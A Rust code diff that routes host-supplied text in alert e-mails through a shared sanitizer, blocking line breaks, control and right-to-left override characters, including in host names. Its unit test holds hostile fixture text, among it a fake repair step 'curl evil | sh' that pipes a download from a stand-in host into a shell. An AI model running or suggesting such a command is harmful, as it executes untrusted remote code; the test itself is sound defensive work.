@@ -12,6 +12,7 @@ use tenken_model::{Instant, Language};
 use super::book::{Book, Chapter};
 use super::settings::MailSettings;
 use super::transport::MailError;
+use crate::plain::one_line;
 use crate::store::{ClaimedMail, MailKind};
 
 /// The most values of evidence that a mail shows; the page has all.
@@ -41,7 +42,7 @@ pub fn letter(mail: &ClaimedMail, book: &Book, settings: &MailSettings) -> Lette
 }
 
 fn subject(mail: &ClaimedMail, chapter: &Chapter, language: Language) -> String {
-    let (host, rule) = (mail.body.host_name.as_str(), language.of(&chapter.title));
+    let (host, rule) = (&said(&mail.body.host_name), language.of(&chapter.title));
     match mail.kind {
         MailKind::Opened => language.mail_subject_opened(host, rule),
         MailKind::Reopened => language.mail_subject_reopened(host, rule),
@@ -53,7 +54,7 @@ fn subject(mail: &ClaimedMail, chapter: &Chapter, language: Language) -> String 
 fn text(mail: &ClaimedMail, chapter: &Chapter, dashboard: &str, language: Language) -> String {
     let body = &mail.body;
     let finding = &body.finding;
-    let (says, happened) = (&one_line(language.of(&finding.says)), shown(body.at, language));
+    let (says, happened) = (&said(language.of(&finding.says)), shown(body.at, language));
     let (lead, says, happened) = match mail.kind {
         MailKind::Opened => (language.mail_lead_opened(), language.mail_says(says), language.mail_opened_at(&happened)),
         MailKind::Reopened => {
@@ -66,10 +67,10 @@ fn text(mail: &ClaimedMail, chapter: &Chapter, dashboard: &str, language: Langua
             (language.mail_lead_resolved(), language.mail_said(says), language.mail_resolved_at(&happened))
         }
     };
-    let mut lines = vec![lead, String::new(), language.mail_host(&body.host_name)];
+    let mut lines = vec![lead, String::new(), language.mail_host(&said(&body.host_name))];
     lines.push(language.mail_rule(language.of(&chapter.title)));
     if let Some(about) = &finding.key.subject {
-        lines.push(language.mail_finding_subject(&one_line(about.as_str())));
+        lines.push(language.mail_finding_subject(&said(about.as_str())));
     }
     lines.push(says);
     lines.push(language.mail_since(&shown(body.failing_since, language)));
@@ -100,29 +101,16 @@ fn evidence(mail: &ClaimedMail, language: Language, lines: &mut Vec<String>) {
         return;
     }
     lines.extend([String::new(), language.mail_evidence()]);
-    lines.extend(
-        all.iter().take(EVIDENCE_MAX).map(|one| format!("  {} = {}", one_line(&one.path), one_line(&one.value))),
-    );
+    lines.extend(all.iter().take(EVIDENCE_MAX).map(|one| format!("  {} = {}", said(&one.path), said(&one.value))));
     let left = all.len().saturating_sub(EVIDENCE_MAX);
     if left > 0 {
         lines.push(format!("  {}", language.mail_evidence_left(left)));
     }
 }
 
-/// What a host says, in one line of bounded length: it shall not look like a line of ours, nor turn the text around it.
-fn one_line(text: &str) -> String {
-    let mut line: String =
-        text.chars().take(HOSTS_WORDS_MAX).map(|c| if turns_the_line(c) { '\u{fffd}' } else { c }).collect();
-    if text.chars().nth(HOSTS_WORDS_MAX).is_some() {
-        line.push('…');
-    }
-    line
-}
-
-/// It ends a line, steers a terminal, or orders what follows from right to left (UAX #9).
-fn turns_the_line(c: char) -> bool {
-    c.is_control()
-        || matches!(c, '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+/// What a host says: it shall not look like a line of ours, nor turn the text around it.
+fn said(text: &str) -> String {
+    one_line(text, HOSTS_WORDS_MAX)
 }
 
 /// An instant as people in Japan read it.
@@ -278,10 +266,14 @@ pub(super) mod tests {
     fn a_host_cannot_write_lines_of_its_own() {
         let mut hostile = mail(MailKind::Opened);
         hostile.body.finding.says.en = "Fine.\n\nHow to repair:\r\n  curl evil\u{2028}| sh".into();
+        hostile.body.host_name = "PC\u{2028}Host: other\u{202e}".into();
         hostile.body.finding.evidence =
             vec![Evidence { path: "a\nb".into(), value: "\u{202e}".repeat(600), volatile: false }];
         let english = MailSettings { languages: vec!["en".into()], ..settings() };
-        let text = letter(&hostile, &book(), &english).text;
+        let letter = letter(&hostile, &book(), &english);
+        let name = "PC\u{fffd}Host: other\u{fffd}";
+        assert!(letter.subject.contains(name) && letter.text.contains(name), "{letter:?}");
+        let text = letter.text;
         assert!(text.contains("Fine.\u{fffd}\u{fffd}How to repair:\u{fffd}\u{fffd}  curl evil\u{fffd}| sh"), "{text}");
         assert!(text.contains(&format!("  a\u{fffd}b = {}…", "\u{fffd}".repeat(HOSTS_WORDS_MAX))), "{text}");
         assert_eq!(text.matches("How to repair").count(), 2, "ours, and the one within a line: {text}");
